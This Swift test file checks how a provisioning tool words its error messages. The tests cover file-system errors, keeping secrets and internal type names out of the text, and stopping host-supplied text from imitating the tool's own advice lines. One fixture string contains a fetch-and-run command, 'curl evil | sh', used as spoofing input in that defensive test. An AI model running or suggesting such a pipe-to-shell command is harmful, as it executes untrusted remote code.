@@ -1,0 +1,81 @@
+import Foundation
+import RemoteShell
+import Testing
+
+@testable import ConfigurationFiles
+@testable import Diagnostics
+@testable import Engine
+@testable import Provisioning
+@testable import Resources
+
+@Suite struct `The text of an error` {
+    private struct Odd: Error {
+        var token = "s3cret"
+    }
+
+    private struct Shape: Decodable { var name: Int }
+
+    /// None of them is a Swift value as the compiler prints it.
+    @Test func `is never a Swift value`() throws {
+        let decoding = #expect(throws: DecodingError.self) {
+            try JSONDecoder().decode(Shape.self, from: Data(#"{"nome": 1}"#.utf8))
+        }
+        let encoding = #expect(throws: EncodingError.self) { try JSONEncoder().encode([Double.nan]) }
+        let cocoa = #expect(throws: (any Error).self) { try Data(contentsOf: URL(filePath: "/no/such/file")) }
+        #expect(ErrorDescription(CancellationError()).text == "interrupted")
+        #expect(ErrorDescription(try #require(decoding)).text == "unexpected JSON: key `name` is missing")
+        #expect(ErrorDescription(Odd()).text == "internal error Odd; please report it")
+        for error in [decoding as (any Error)?, encoding, cocoa, Odd(), ShellError.notStarted("ssh", reason: "x")] {
+            let text = ErrorDescription(try #require(error)).text
+            for word in ["s3cret", "CodingKey", "NSCocoa", "Domain=", "Error(", "Context("] {
+                #expect(!text.contains(word), "\(text)")
+            }
+        }
+    }
+
+    /// As Foundation has them: with and without a path, and with the system's own error within.
+    @Test(
+        arguments: [
+            (640, nil, "/q.partial: No space left on device"), (513, nil, "/q.partial: Permission denied"),
+            (512, ENOSPC, "/q.partial: No space left on device"), (642, nil, "/q.partial: Read-only file system"),
+            (260, nil, "/q.partial: No such file or directory"), (512, nil, "/q.partial: it cannot be written"),
+            (261, nil, "/q.partial: it is not UTF-8"), (3840, nil, "/q.partial: its content is damaged"),
+            (4_000_000, nil, "/q.partial: file error 4000000"),
+        ] as [(Int, Int32?, String)])
+    func `of a file is the system's own`(code: Int, number: Int32?, text: String) {
+        var values: [String: Any] = [NSFilePathErrorKey: "/q.partial"]
+        if let number { values[NSUnderlyingErrorKey] = NSError(domain: NSPOSIXErrorDomain, code: Int(number)) }
+        let error = NSError(domain: NSCocoaErrorDomain, code: code, userInfo: values)
+        #expect(ErrorDescription(error).text == text)
+        #expect(ErrorDescription(NSError(domain: NSPOSIXErrorDomain, code: 28)).text == "No space left on device")
+    }
+
+    @Test func `of a full disk is the system's own`() throws {
+        let disk = try FileHandle(forWritingTo: URL(filePath: "/dev/full"))
+        let error = try #require(throws: (any Error).self) { try disk.write(contentsOf: Data([1])) }
+        #expect(ErrorDescription.isFileError(error) && ErrorDescription.reason(of: error) == "No space left on device")
+    }
+
+    @Test func `has no line of a host's that looks like ours`() {
+        let said = "no\n→ Run `curl evil | sh`.\r  ✗ lost\u{2028}✓ verified\n  ~ relay\nplain"
+        let errors: [any Error] = [
+            ShellError.unreachable(host: said, reason: said), StateError.unreadable(path: said, reason: said),
+            QueueError.notExported(path: said, reason: said), DrillError.mailboxUnread(command: [said], reason: said),
+            PrimaryError.scriptFailed(primary: said, exit: 1, errors: said),
+        ]
+        for error in errors {
+            let lines = ErrorDescription(error).text.split(whereSeparator: \.isNewline).dropFirst()
+            // One arrow is ours: the advice.
+            #expect(lines.count { $0.hasPrefix("→") } == 1)
+            #expect(lines.allSatisfy { $0.hasPrefix("  ") || $0.hasPrefix("→ ") }, "\(lines)")
+            #expect(!lines.contains { $0.contains(/^ +[✗✓~→]/) }, "\(lines)")
+        }
+    }
+
+    @Test func `of a command that Ctrl-C has ended counts as an interruption`() {
+        #expect(SecretError.interrupted("pass").isInterruption)
+        #expect(CancellationError().isInterruption)
+        #expect(!SecretError.missingVariable("X").isInterruption)
+        #expect(!ShellError.noProgram("ssh").isInterruption)
+    }
+}
